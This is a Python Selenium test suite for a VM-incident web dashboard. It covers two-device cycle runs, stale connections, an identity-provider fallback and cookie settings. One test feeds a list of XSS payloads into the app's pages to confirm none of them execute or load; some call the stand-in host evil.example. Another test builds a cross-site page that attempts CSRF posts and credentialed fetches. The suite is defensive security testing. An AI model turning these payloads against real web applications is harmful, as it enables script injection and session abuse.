"""The ways through the page, as a person goes them in a real browser, and what others would like to make of that browser."""

import tempfile
import unittest

from phone import Phone
from served import Elsewhere, Proxy, Relay, Served
from selenium.webdriver.common.by import By

EVIL = [
    "<script>document.title='pwned'</script>",
    "\"><img src=x onerror=\"document.title='pwned'\">",
    "'><svg/onload=document.title='pwned'>",
    "</pre></main></title><iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
    "</textarea><script src=//evil.example/x.js></script>",
    "<a href=\"javascript:document.title='pwned'\" autofocus onfocus=\"document.title='pwned'\">x</a>",
    "<style>@import url(//evil.example/x.css);body{display:none}</style>",
    "<!-- --><base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<form action=//evil.example><button>Cycle now</button></form>",
    "{{constructor.constructor('document.title=1')()}} ${document.title='pwned'} &lt;script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='pwned'>",
]


def case(evil):
    """An incident in which everything that the guest or the host says is hostile."""
    quoted = evil.replace("\\", "\\\\").replace('"', '\\"')
    return f'''
about = "x"
says = "x"
start = "stalled"
[state.stalled]
vm = "running"
code = "block-stalled"
sentence = "VM 102 is block-stalled: {quoted}"
recommend = "cycle"
why = "{quoted}"
screen = "login.png"
answers = [{{ when = [], prints = "{quoted}" }}]
[state.stalled.artifacts]
"guest/journal.txt" = "{quoted}"
"guest/page.html" = "<!DOCTYPE html>{quoted}"
"guest/picture.svg" = "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title='pwned'\\"/>"
"console/screen-9.png" = "<!DOCTYPE html>{quoted}"
"qmp/query-status.json" = "{{\\"x\\": \\"{quoted.replace(chr(92), chr(92) * 3)}\\"}}"
[expect]
ends = ["stalled"]
'''


class Ways(unittest.TestCase):
    maxDiff = None

    def served(self, **words):
        return self.enterContext(Served(**words))

    def phone(self, at, **how):
        return self.enterContext(Phone(at, **how))

    def never_green(self, phone, css):
        """That a card with an end is there and is drawn as nothing good: neither its word, nor its sign, nor its colour."""
        script = """
            const probe = document.createElement("i"); probe.className = "pill good"; document.body.append(probe);
            const green = getComputedStyle(probe).color; probe.remove();
            const card = arguments[0], all = [card, ...card.querySelectorAll("h1, .headline, .pill")];
            return { green, colours: all.flatMap((el) => ["color", "borderLeftColor"].map((name) => getComputedStyle(el)[name])),
                     signs: all.map((el) => getComputedStyle(el, "::before").content) };
            """

        def looked():
            card = phone.has(css)
            return phone.driver.execute_script(script, card), card.text

        # Once more where a page that lives, or loads itself again, has exchanged the card in between.
        seen, text = phone.until(css, looked)
        self.assertNotIn(seen["green"], seen["colours"])
        self.assertNotIn("✓", "".join(seen["signs"]))
        self.assertNotIn("Done", text)
        return text

    def test_a_cycle_is_two_presses_and_is_watched_on_two_devices(self):
        """The phone has no JavaScript, the desktop has; each is told everything, neither is touched in between."""
        at = self.served(pace=1200).at
        phone, desk = self.phone(at, js=False, width=320), self.phone(at, width=1280, height=900)
        desk.open("/")
        phone.open("/").reads("Block stalled")
        desk.reads("Block stalled")
        phone.press("Cycle")
        phone.press("Cycle now")
        run = phone.at_path("/runs/")
        desk.reads("cycle runs:", 15)
        desk.press("cycle runs:")
        self.assertEqual(desk.at_path("/runs/"), run)
        for device in (phone, desk):
            device.reads("pieces captured")
        desk.reads("Safe on disk")
        desk.reload()
        desk.reads("Safe on disk")
        phone.reads("preflight done")
        for device in (phone, desk):
            device.reads("qm-start", 60)
        for device in (phone, desk):
            device.reads("Done", 60)
            device.reads("Looks healthy", 60)
            self.assertEqual(["done"] * 4, device.each(".steps li", "className"))
        desk.open("/").reads("Looks healthy")
        self.assertEqual(desk.all(".advised"), [], "what was advised is over")
        self.assertEqual(desk.console(), [])
        self.assertEqual([one["url"] for one in desk.loaded() if not one["url"].startswith(at)], [])

    def test_the_first_screen_stays_true_while_nobody_touches_it(self):
        """State, advice, buttons, the age of what is shown: all of it follows, also what another device does."""
        served = self.served(pace=800)
        desk, phone = self.phone(served.at, width=1280, height=900), self.phone(served.at, js=False)
        desk.open("/").reads("Block stalled")
        self.assertEqual(1, len(desk.all(".verb.advised")))
        desk.press("What was found, and its evidence")
        phone.open("/verbs/cycle/confirm").press("Cycle now")
        desk.reads("cycle runs:", 15)
        desk.reads("Looks healthy", 60)
        desk.until("buttons without an advice", lambda: not desk.all(".verb.advised"), 15)
        desk.until("a list with the incident", lambda: "1 change" in desk.has("#recent").text, 30)
        served.host("silent")
        desk.reads("Host silent", 60)
        served.stop()
        desk.reads("No connection: what is shown is old.", 60)

    def test_a_phone_that_slept_catches_up_by_itself(self):
        """Its connections carry nothing any more and nobody has said so: neither side has closed them."""
        served = self.served(pace=900)
        relay = self.enterContext(Relay(served.port))
        phone = self.phone(relay.at)
        phone.open("/").reads("Block stalled")
        phone.press("Cycle")
        phone.press("Cycle now")
        phone.reads("pieces captured")
        relay.sleep()
        phone.reads("Done", 90)
        phone.reads("Looks healthy", 60)
        self.assertNotIn("No connection", phone.text())

    def test_what_one_writes_is_not_lost_to_a_page_that_loads_itself_again(self):
        at = self.served().at
        phone = self.phone(at, js=False)
        phone.open("/").press("Hold this page still")
        phone.until("a page that stays", lambda: phone.all("textarea") and not phone.all("meta[http-equiv=refresh]"))
        phone.type("textarea", "The devvm has")
        self.assertEqual(phone.all("meta[http-equiv=refresh]"), [])
        # With JavaScript the page is fresh and the words stay.
        desk = self.phone(at)
        desk.open("/").type("textarea", "The devvm has")
        phone.open("/").press("Forensics")
        desk.reads("block-stalled, ")
        self.assertEqual(desk.has("textarea").get_attribute("value"), "The devvm has")

    def test_pressed_twice_it_runs_once_and_says_so(self):
        at = self.served(pace=1500).at
        phone = self.phone(at, js=False)
        phone.open("/").reads("Block stalled")
        phone.press("Cycle")
        phone.reads("Cycle VM 102?")
        button = phone.has("button.danger")
        # Two posts of the same form: the second answer is the one that a browser shows.
        form = {one.get_attribute("name"): one.get_attribute("value") for one in phone.all("form input[type=hidden]")}
        button.click()
        phone.reads("Cycle of VM 102")
        # The run's page loads itself again every 2 s, which would get in the way; this one stands still.
        phone.open("/verbs/cycle/confirm").reads("Cycle VM 102?")
        phone.driver.execute_script(
            """
            const form = document.createElement("form"); form.method = "post"; form.action = "/verbs/cycle";
            for (const [name, value] of Object.entries(arguments[0])) {
              const input = document.createElement("input"); input.name = name; input.value = value; form.append(input);
            }
            document.body.append(form); form.submit();
            """,
            form,
        )
        phone.reads("was answered already")
        phone.press("cycle runs:")
        phone.reads("Done", 60)
        phone.open("/evidence")
        self.assertEqual(1, len([row for row in phone.all(".rows li") if "Cycle" in row.text]))

    def test_an_unknown_result_is_never_drawn_as_a_good_one(self):
        at = self.served(case="cycle-with-unknown-end", pace=50).at
        for js in (True, False):
            phone = self.phone(at, js=js, dark=not js)
            phone.open("/")
            if js:
                phone.press("Cycle")
                phone.press("Cycle now")
                phone.reads("Result unknown")
                run = phone.path()
                phone.picture("run-unknown-390-light")
            phone.open(run).reads("Result unknown")
            self.assertIn("could not be seen in time", self.never_green(phone, ".card.outcome"))
            self.never_green(phone, ".card.state")
            phone.open("/incidents")
            self.never_green(phone, ".rows li")
            phone.has(".rows a").click()
            self.assertIn("Result unknown", self.never_green(phone, ".story summary"))
            self.never_green(phone, "#head")
            phone.open("/").reads("QEMU could not be asked")
            self.never_green(phone, ".card.state")

    def test_a_silent_host_leaves_a_page_that_says_so_and_has_its_buttons(self):
        served = self.served()
        for js in (True, False):
            phone = self.phone(served.at, js=js, width=320, dark=True)
            phone.open("/").reads("Block stalled")
            served.host("silent")
            phone.reads("Host silent", 60)
            self.never_green(phone, ".card.state")
            self.assertEqual(len(phone.all(".verb")), 6)
            phone.picture("home-silent-320-dark")
            phone.reads("Last seen")
            served.host("speaks")
            phone.until("a host that speaks", lambda: "Block stalled" in phone.text() and "Host silent" not in phone.text(), 60)

    def test_where_claude_is_gone_the_page_says_so_and_the_runbook_recovers(self):
        for js in (True, False):
            at = self.served(claude="gone", pace=50).at
            phone, other = self.phone(at, js=js), self.phone(at, js=not js)
            phone.open("/").type("textarea", "The devvm hangs.")
            phone.press("Send")
            phone.reads("could not be had", 20)
            phone.reads("The runbook goes on.", 20)
            if js:
                phone.picture("incident-no-claude-390-light")
            other.open("/").press("Forensics")
            other.reads("Forensics of VM 102")
            phone.reads("Ended, healthy", 90)

    def test_the_runbook_asks_once_and_what_was_typed_goes_with_it(self):
        for claude in ("none", "asks"):
            at = self.served(pace=400, claude=claude).at
            for js in (False, True):
                phone = self.phone(at, js=js)
                phone.open("/").reads("Block stalled")
                phone.type("textarea", "SSH is dead.")
                phone.press("Run the runbook")
                phone.reads("Now it would cycle the VM.")
                self.assertNotIn("token", phone.driver.current_url)
                self.assertEqual(phone.has("textarea").get_attribute("value"), "SSH is dead.")
                phone.picture(f"runbook-{claude}-390-light")
                if js and claude == "none":
                    phone.press("Run the runbook now")
                    phone.reads("Stop the runbook")
                    self.assertFalse(phone.has("#go button").is_enabled())
                    phone.picture("incident-runbook-390-light")
                    phone.reads("Ended, healthy", 90)
                    phone.until("a button that can be pressed again", lambda: phone.has("#go button").is_enabled(), 10)
                else:
                    phone.press("Not now")
                    phone.reads("Block stalled")
            phone.open("/incidents").reads("SSH is dead." if claude == "none" else "None yet")

    def test_when_the_identity_provider_is_down_a_password_is_the_way_in(self):
        served = self.served(door="every", pace=50)
        ingress = self.enterContext(Proxy(served.port))
        fallback = self.enterContext(Proxy(served.port, fallback=True))
        for js in (True, False):
            ingress.provider = True
            phone = self.phone(ingress.at, js=js, basic=False)
            phone.open("/").reads("You are anna (proxy)")
            if js:
                ingress.provider = "asks"
                phone.reads("You are signed out", 40)
            ingress.provider = False
            phone.reload()
            phone.reads("The identity provider does not answer.")
            phone.goes_to(fallback.at, basic=False)
            phone.forget()
            phone.open("/")
            self.assertEqual([401], [one["status"] for one in phone.loaded() if one["type"] == "Document"], "it asks for a password")
            phone.goes_to(fallback.at)
            phone.open("/").reads("You are anna (password)")
            phone.press("Forensics")
            phone.reads("Forensics: block stalled")
            phone.reads("anna (password)")

    def test_nothing_that_others_say_runs_or_is_loaded(self):
        evil = " ".join(EVIL)
        with tempfile.NamedTemporaryFile("w", suffix=".toml", dir=tempfile.gettempdir()) as file:
            file.write(case(evil))
            file.flush()
            at = self.served(case=file.name, claude="asks", pace=5, node=evil).at
        phone = self.phone(at)
        phone.open("/").reads("Block stalled")
        phone.type("#text", evil)
        phone.press("Send")
        story = phone.at_path("/incidents/")
        for call in ("pve_cycle", "devvm_exec"):
            phone.approve(call)
        phone.reads("What I was told", 60)
        phone.open("/").press("Forensics")
        phone.reads("Forensics: block stalled")
        run = phone.at_path("/runs/").split("/")[-1]
        at_evidence = [f"/evidence/{run}/{file}" for file in ("guest/journal.txt", "guest/page.html", "guest/picture.svg", "qmp/query-status.json")]
        pages = [
            "/",
            "/verbs/cycle/confirm?reason=%3Cscript%3Edocument.title%3D1%3C%2Fscript%3E&incident=%22%3E%3Cscript%3E",
            "/incidents",
            story,
            f"/runs/{run}",
            "/evidence",
            f"/evidence/{run}",
            *at_evidence,
            "/receipts",
            "/nowhere/%3Cscript%3Edocument.title='pwned'%3C/script%3E",
        ]
        raw = [f"/artifacts/{run}/{file}" for file in ("guest/page.html", "guest/picture.svg", "console/screen-9.png", "guest/journal.txt")]
        for path in pages + raw:
            phone.forget()
            phone.open(path)
            phone.until("a page", phone.text)
            phone.unfold()
            self.assertNotIn(phone.driver.title, ("pwned", "1"), path)
            said = [line for line in phone.console() if "404" not in line]
            self.assertEqual(said, [], f"{path}: a policy that had to refuse something is a page that contained it")
            self.assertEqual([one["url"] for one in phone.loaded() if not one["url"].startswith((at, "data:"))], [], path)
            if path not in raw:
                self.assertEqual(phone.overflows(), [], f"{path}: a long word makes a page that has to be pushed sideways")
                odd = "iframe, svg, math, base, style, object, embed, link[rel=import], script:not([src='/assets/app.js']), a[href^=javascript], [onerror], [onload], [onfocus], meta[http-equiv=refresh]"
                self.assertEqual(phone.each(odd, "outerHTML"), [], path)
                self.assertTrue(all(action.startswith(at) for action in phone.each("form", "action")), path)
            else:
                self.assertEqual("text/plain", phone.driver.execute_script("return document.contentType"), path)
        self.assertIn("onerror", phone.text(), "it is shown, as text")

    def test_a_page_of_another_site_can_neither_press_nor_frame_nor_read(self):
        at = self.served(pace=5).at
        body = f"""<!DOCTYPE html><title>elsewhere</title><form id=one method=post action={at}/verbs/forensics><button>Win</button></form>
            <iframe src={at}/></iframe><img src={at}/assets/icon-192.png id=img>
            <script>
              document.title = "trying";
              const all = [fetch("{at}/verbs/forensics", {{ method: "POST", mode: "no-cors", credentials: "include" }}),
                fetch("{at}/verbs/status", {{ method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({{ a: 1 }}) }}),
                fetch("{at}/", {{ credentials: "include" }}).then((a) => a.text()).then((t) => document.title = "read " + t.length)];
              Promise.allSettled(all).then(() => {{ if (document.title === "trying") document.title = "tried"; }});
            </script>"""
        elsewhere = self.enterContext(Elsewhere(body))
        phone = self.phone(at)
        phone.open("/").reads("Block stalled")
        phone.open(elsewhere.at + "/").until("its tries", lambda: phone.driver.title == "tried")
        phone.driver.switch_to.frame(0)
        self.assertNotIn("Block stalled", phone.html())
        phone.driver.switch_to.default_content()
        self.assertEqual(0, phone.driver.execute_script("return document.getElementById('img').naturalWidth"), "not even an icon is given to others")
        # Top-level, by the person's own press: the browser sends the password along.
        phone.press("Win")
        phone.reads("This was sent by a page of another site")
        phone.open("/incidents").reads("None yet")

    def test_the_session_of_the_one_time_link_is_a_cookie_that_only_this_page_gets(self):
        served = self.served(door="link", pace=5)
        elsewhere = self.enterContext(
            Elsewhere(f"<!DOCTYPE html><form method=post action={served.at}/verbs/forensics><button>Win</button></form><a href={served.at}/>Go</a>")
        )
        for js in (True, False):
            phone = self.phone(served.at, js=js, basic=False)
            phone.open("/").reads("Nobody is let in")
            if js:
                phone.open(served.link).reads("Block stalled")
                [cookie] = phone.driver.get_cookies()
                self.assertEqual((cookie["httpOnly"], cookie["sameSite"], cookie["domain"], cookie["path"]), (True, "Strict", "127.0.0.1", "/"))
                self.assertEqual(phone.driver.execute_script("return document.cookie"), "", "no script can read it")
                phone.reads("You are local (link)")
                phone.open("/").press("Forensics")
                phone.reads("Forensics: block stalled")
                # Sent from elsewhere the cookie stays at home.
                phone.open(elsewhere.at + "/").press("Win")
                phone.reads("Nobody is let in")
            phone.open(served.link).reads("This link was used before")


if __name__ == "__main__":
    unittest.main(verbosity=2)
